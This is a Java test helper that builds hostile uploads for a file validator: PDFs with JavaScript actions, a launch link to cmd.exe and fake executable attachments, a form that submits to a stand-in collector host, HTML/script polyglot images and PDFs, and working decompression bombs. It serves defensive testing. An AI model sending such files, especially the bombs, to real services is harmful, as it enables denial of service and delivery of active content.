package org.externship.portal.passport.control;

import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDAnnotationAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.Adler32;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/**
 * The hostile uploads the passport must refuse, generated on the spot (nothing downloaded, no binary committed). Each
 * is the smallest file that shows one trick: active content in a PDF, HTML hidden in a PDF or an image, and files that
 * are small on disk but huge once decoded. The good samples stay in {@link SampleFiles}, which the in-container tests
 * use too.
 */
public final class HostileFiles {

    /** The start of a Windows executable, enough for any scanner to call it one. */
    private static final byte[] EXECUTABLE = "MZ\u0090\u0000This program cannot be run in DOS mode.\r\n"
            .getBytes(StandardCharsets.ISO_8859_1);

    private HostileFiles() {
    }

    // ---- PDFs with active content (PDFBox writes them, packing the objects into compressed object streams) ----

    /** The probe's file: opening it runs a script, and it carries an executable as an attachment. */
    static byte[] pdfWithOpenActionScriptAndExecutable() {
        return SampleFiles.build(document -> {
            SampleFiles.addPage(document, "Please enable content");
            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hello');"));
            attach(document, "update.exe");
        });
    }

    /** A script that runs when the document opens, kept in the names tree rather than an action. */
    static byte[] pdfWithDocumentLevelScript() {
        return SampleFiles.build(document -> {
            SampleFiles.addPage(document, "Vaccination record");
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("init", new PDActionJavaScript("this.print();")));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
        });
    }

    /** An attached file and nothing else unusual. */
    public static byte[] pdfWithEmbeddedFile() {
        return SampleFiles.build(document -> {
            SampleFiles.addPage(document, "See the attachment");
            attach(document, "notes.txt");
        });
    }

    /** A link on the page that starts a program. */
    public static byte[] pdfWithLaunchLink() {
        return SampleFiles.build(document -> {
            PDPage page = SampleFiles.addPage(document, "Click to verify");
            PDActionLaunch launch = new PDActionLaunch();
            launch.getCOSObject().setString(COSName.F, "cmd.exe");
            page.getAnnotations().add(link(launch));
        });
    }

    /** A link whose additional actions run a script when the pointer enters it. */
    static byte[] pdfWithAnnotationAdditionalAction() {
        return SampleFiles.build(document -> {
            PDPage page = SampleFiles.addPage(document, "Hover here");
            PDAnnotationLink link = link(uri("https://example.org/"));
            PDAnnotationAdditionalActions actions = new PDAnnotationAdditionalActions();
            actions.setE(new PDActionJavaScript("app.alert(1);"));
            link.getCOSObject().setItem(COSName.AA, actions);
            page.getAnnotations().add(link);
        });
    }

    /** A page that runs a script when it is opened. */
    static byte[] pdfWithPageOpenScript() {
        return SampleFiles.build(document -> {
            PDPage page = SampleFiles.addPage(document, "Page one");
            PDPageAdditionalActions actions = new PDPageAdditionalActions();
            actions.setO(new PDActionJavaScript("app.alert(2);"));
            page.setActions(actions);
        });
    }

    /** A file attachment annotation (the paper-clip icon on the page). */
    static byte[] pdfWithFileAttachmentAnnotation() {
        return SampleFiles.build(document -> {
            PDPage page = SampleFiles.addPage(document, "Open the clip");
            PDAnnotationFileAttachment clip = new PDAnnotationFileAttachment();
            clip.setRectangle(new PDRectangle(72, 600, 20, 20));
            clip.setFile(fileSpecification(document, "invoice.exe"));
            page.getAnnotations().add(clip);
        });
    }

    /** A form whose XFA part (a second, scriptable form language) travels with it. */
    static byte[] pdfWithXfaForm() {
        return SampleFiles.build(document -> {
            SampleFiles.addPage(document, "Fill me in");
            PDAcroForm form = new PDAcroForm(document);
            form.getCOSObject().setItem(COSName.XFA, new COSString("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>"));
            document.getDocumentCatalog().setAcroForm(form);
        });
    }

    /** A link that sends the form (and so whatever the reader typed) to a server. */
    static byte[] pdfWithSubmitFormLink() {
        return SampleFiles.build(document -> {
            PDPage page = SampleFiles.addPage(document, "Submit");
            PDActionSubmitForm submit = new PDActionSubmitForm();
            submit.getCOSObject().setString(COSName.F, "https://collector.example/");
            page.getAnnotations().add(link(submit));
        });
    }

    /** A bookmark (outline item) that runs a script: active content outside pages and names. */
    static byte[] pdfWithScriptInBookmark() {
        return SampleFiles.build(document -> {
            SampleFiles.addPage(document, "Chapter one");
            PDDocumentOutline outline = new PDDocumentOutline();
            PDOutlineItem item = new PDOutlineItem();
            item.setTitle("Chapter one");
            item.setAction(new PDActionJavaScript("app.alert(3);"));
            outline.addLast(item);
            document.getDocumentCatalog().setDocumentOutline(outline);
        });
    }

    /** A JavaScript action chained behind a harmless link by the action's /Next entry. */
    static byte[] pdfWithScriptChainedAfterLink() {
        return SampleFiles.build(document -> {
            PDPage page = SampleFiles.addPage(document, "Read more");
            PDActionURI first = uri("https://example.org/");
            first.getCOSObject().setItem(COSName.NEXT, new PDActionJavaScript("app.alert(4);"));
            page.getAnnotations().add(link(first));
        });
    }

    /** An ordinary link to a web page: allowed (a CV may link to a profile). */
    static byte[] pdfWithWebLink() {
        return SampleFiles.build(document -> {
            PDPage page = SampleFiles.addPage(document, "My profile");
            page.getAnnotations().add(link(uri("https://example.org/profile")));
        });
    }

    private static void attach(PDDocument document, String name) throws IOException {
        PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
        files.setNames(Map.of(name, fileSpecification(document, name)));
        PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
        names.setEmbeddedFiles(files);
        document.getDocumentCatalog().setNames(names);
    }

    private static PDComplexFileSpecification fileSpecification(PDDocument document, String name)
            throws IOException {
        PDEmbeddedFile file = new PDEmbeddedFile(document, new ByteArrayInputStream(EXECUTABLE));
        file.setSize(EXECUTABLE.length);
        PDComplexFileSpecification specification = new PDComplexFileSpecification();
        specification.setFile(name);
        specification.setEmbeddedFile(file);
        return specification;
    }

    private static PDAnnotationLink link(PDAction action) {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(72, 690, 200, 20));
        link.setAction(action);
        return link;
    }

    private static PDActionURI uri(String address) {
        PDActionURI uri = new PDActionURI();
        uri.setURI(address);
        return uri;
    }

    // ---- Polyglots: a real file that a browser sniffing its bytes would also take for a web page ----

    /** {@code %PDF-1.4}, then a web page with a script, then a real PDF: PDF readers and browsers both open it. */
    public static byte[] pdfPolyglot() {
        byte[] pdf = SampleFiles.pdf("Transcript");
        return concat("%PDF-1.4\n<html><script>alert(1)</script></html>\n".getBytes(StandardCharsets.US_ASCII), pdf);
    }

    /** A real PNG with a text chunk holding an HTML page (the image still decodes). */
    static byte[] pngWithHtmlTextChunk() {
        byte[] png = SampleFiles.png();
        byte[] text = "Comment\0<HTML><BODY onload=\"alert(1)\">hi</BODY></HTML>".getBytes(StandardCharsets.ISO_8859_1);
        // after the signature (8) and the IHDR chunk (4 + 4 + 13 + 4): a place any ancillary chunk may go
        int afterHeader = 8 + 25;
        return concat(Arrays.copyOf(png, afterHeader), chunk("tEXt", text),
                Arrays.copyOfRange(png, afterHeader, png.length));
    }

    /** A real JPEG with a script appended after its end marker (image viewers ignore it). */
    static byte[] jpegWithScriptAppended() {
        return concat(SampleFiles.jpeg(), "<iframe src=\"javascript:alert(1)\"></iframe>".getBytes(StandardCharsets.US_ASCII));
    }

    // ---- Decompression bombs ----

    /**
     * The probe's PNG: {@code width x height} pixels of 16-bit RGBA (8 bytes a pixel), all zero, so its image data
     * deflates about a thousandfold: 6000 x 6000 is 288 MB of pixels in a file of about 280 KB. Written chunk by chunk
     * with correct CRCs.
     */
    static byte[] pngBomb(int width, int height) {
        ByteArrayOutputStream header = new ByteArrayOutputStream();
        try (DataOutputStream out = new DataOutputStream(header)) {
            out.writeInt(width);
            out.writeInt(height);
            out.writeByte(16); // bit depth
            out.writeByte(6);  // colour type: RGB with alpha
            out.writeByte(0);  // compression
            out.writeByte(0);  // filter method
            out.writeByte(0);  // no interlace
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        // each row is its filter type (0, none) and its samples: zeros all through
        byte[] pixels = zlibOfZeros(new byte[0], (long) height * (1 + width * 8L));
        byte[] signature = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'};
        return concat(signature, chunk("IHDR", header.toByteArray()), chunk("IDAT", pixels), chunk("IEND", new byte[0]));
    }

    /** A small real JPEG whose frame header claims {@code width x height}: the decoder would allocate for that. */
    static byte[] jpegClaiming(int width, int height) {
        byte[] jpeg = SampleFiles.jpeg();
        for (int i = 2; i + 9 < jpeg.length; i++) {
            if ((jpeg[i] & 0xFF) == 0xFF && (jpeg[i + 1] & 0xFF) == 0xC0) { // baseline frame header
                // FF C0, length (2), precision (1), height (2), width (2)
                jpeg[i + 5] = (byte) (height >> 8);
                jpeg[i + 6] = (byte) height;
                jpeg[i + 7] = (byte) (width >> 8);
                jpeg[i + 8] = (byte) width;
                return jpeg;
            }
        }
        throw new IllegalStateException("ImageIO wrote a JPEG without a baseline frame header");
    }

    /**
     * The probe's PDF, written by hand: its catalog sits in a FlateDecode object stream that inflates to
     * {@code inflatedBytes} (zeros after the catalog), found through a cross-reference stream. 2 GiB takes about 2 MB.
     */
    static byte[] pdfObjectStreamBomb(long inflatedBytes) {
        byte[] index = "1 0 ".getBytes(StandardCharsets.US_ASCII);
        byte[] catalog = "<< /Type /Catalog /Pages 2 0 R >>".getBytes(StandardCharsets.US_ASCII);
        byte[] compressed = zlibOfZeros(concat(index, catalog), inflatedBytes);
        PdfWriter pdf = new PdfWriter();
        pdf.object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
        pdf.object(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>");
        pdf.stream(4, "/Type /ObjStm /N 1 /First " + index.length + " /Filter /FlateDecode", compressed);
        return pdf.withCrossReferenceStream(5, 1, 4);
    }

    /**
     * Zlib data (what FlateDecode and PNG use) that inflates to {@code head} followed by zeros, {@code length} bytes in
     * all. Deflating gigabytes of zeros takes a while, so one mebibyte of zeros is deflated once and its output
     * repeated: each piece ends with a full flush, which aligns it to a byte and makes it refer to nothing before it,
     * so the pieces chain into one valid stream, as if the deflater had seen every zero. Deflate packs zeros about
     * 1000:1, so 2 GiB takes about 2 MB.
     */
    static byte[] zlibOfZeros(byte[] head, long length) {
        int piece = 1024 * 1024;
        long zeros = length - head.length;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {0x78, (byte) 0xDA}); // zlib header: deflate, best compression
        out.writeBytes(deflated(head, Deflater.FULL_FLUSH));
        byte[] zeroPiece = deflated(new byte[piece], Deflater.FULL_FLUSH);
        for (long i = 0; i < zeros / piece; i++) {
            out.writeBytes(zeroPiece);
        }
        out.writeBytes(deflated(new byte[(int) (zeros % piece)], -1)); // the rest, and the final block
        // Adler-32 of head and zeros: each zero leaves the first sum alone and adds it to the second
        Adler32 adler = new Adler32();
        adler.update(head);
        long a = adler.getValue() & 0xFFFF;
        long b = ((adler.getValue() >>> 16) + (zeros % 65521) * a) % 65521;
        long checksum = (b << 16) | a;
        out.writeBytes(new byte[] {(byte) (checksum >>> 24), (byte) (checksum >>> 16), (byte) (checksum >>> 8),
                (byte) checksum});
        return out.toByteArray();
    }

    /** Raw deflate of {@code data} on its own, ended by {@code flush}, or finished (the last block) if it is -1. */
    private static byte[] deflated(byte[] data, int flush) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        try {
            deflater.setInput(data);
            if (flush < 0) {
                deflater.finish();
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            byte[] buffer = new byte[64 * 1024];
            while (true) {
                int n = flush < 0 ? deflater.deflate(buffer) : deflater.deflate(buffer, 0, buffer.length, flush);
                out.write(buffer, 0, n);
                if (flush < 0 ? deflater.finished() : n < buffer.length) {
                    return out.toByteArray();
                }
            }
        } finally {
            deflater.end();
        }
    }

    /**
     * A small file whose object stream inflates to {@code bytes} of empty arrays ({@code [][][]...}) inside the
     * catalog: little to inflate, but each two bytes become an array object once parsed.
     */
    static byte[] pdfObjectStreamOfEmptyArrays(int bytes) {
        String head = "1 0 << /Type /Catalog /Pages 2 0 R /Filler [";
        byte[] decoded = (head + "[]".repeat((bytes - head.length() - 3) / 2) + "] >>")
                .getBytes(StandardCharsets.US_ASCII);
        ByteArrayOutputStream compressed = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflate = new DeflaterOutputStream(compressed,
                new Deflater(Deflater.BEST_COMPRESSION))) {
            deflate.write(decoded);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        PdfWriter pdf = new PdfWriter();
        pdf.object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
        pdf.object(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>");
        pdf.stream(4, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", compressed.toByteArray());
        return pdf.withCrossReferenceStream(5, 1, 4);
    }

    /** Just enough of a PDF writer for files PDFBox would refuse to write: objects, offsets, an xref stream. */
    private static final class PdfWriter {
        private final ByteArrayOutputStream out = new ByteArrayOutputStream();
        private final List<long[]> offsets = new ArrayList<>(); // object number, offset

        PdfWriter() {
            ascii("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n");
        }

        void object(int number, String body) {
            offsets.add(new long[] {number, out.size()});
            ascii(number + " 0 obj\n" + body + "\nendobj\n");
        }

        void stream(int number, String dictionary, byte[] data) {
            offsets.add(new long[] {number, out.size()});
            ascii(number + " 0 obj\n<< " + dictionary + " /Length " + data.length + " >>\nstream\n");
            out.writeBytes(data);
            ascii("\nendstream\nendobj\n");
        }

        /**
         * Ends the file with a cross-reference stream (object {@code number}) that lists the objects written, and
         * object {@code compressed} as the first object inside object stream {@code objectStream}.
         */
        byte[] withCrossReferenceStream(int number, int compressed, int objectStream) {
            long start = out.size();
            int size = number + 1;
            byte[] entries = new byte[size * 7]; // W [1 4 2]
            entries[0] = 0; // object 0: free
            entries[5] = (byte) 0xFF;
            entries[6] = (byte) 0xFF;
            for (long[] offset : offsets) {
                entry(entries, (int) offset[0], 1, offset[1], 0);
            }
            entry(entries, compressed, 2, objectStream, 0);
            entry(entries, number, 1, start, 0);
            ascii(number + " 0 obj\n<< /Type /XRef /Size " + size + " /W [1 4 2] /Root " + compressed
                    + " 0 R /Length " + entries.length + " >>\nstream\n");
            out.writeBytes(entries);
            ascii("\nendstream\nendobj\nstartxref\n" + start + "\n%%EOF\n");
            return out.toByteArray();
        }

        private static void entry(byte[] entries, int object, int type, long field2, int field3) {
            int at = object * 7;
            entries[at] = (byte) type;
            for (int i = 0; i < 4; i++) {
                entries[at + 1 + i] = (byte) (field2 >> (24 - 8 * i));
            }
            entries[at + 5] = (byte) (field3 >> 8);
            entries[at + 6] = (byte) field3;
        }

        private void ascii(String text) {
            out.writeBytes(text.getBytes(StandardCharsets.ISO_8859_1));
        }
    }

    private static byte[] chunk(String type, byte[] data) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (DataOutputStream out = new DataOutputStream(bytes)) {
            byte[] name = type.getBytes(StandardCharsets.US_ASCII);
            out.writeInt(data.length);
            out.write(name);
            out.write(data);
            CRC32 crc = new CRC32();
            crc.update(name);
            crc.update(data);
            out.writeInt((int) crc.getValue());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
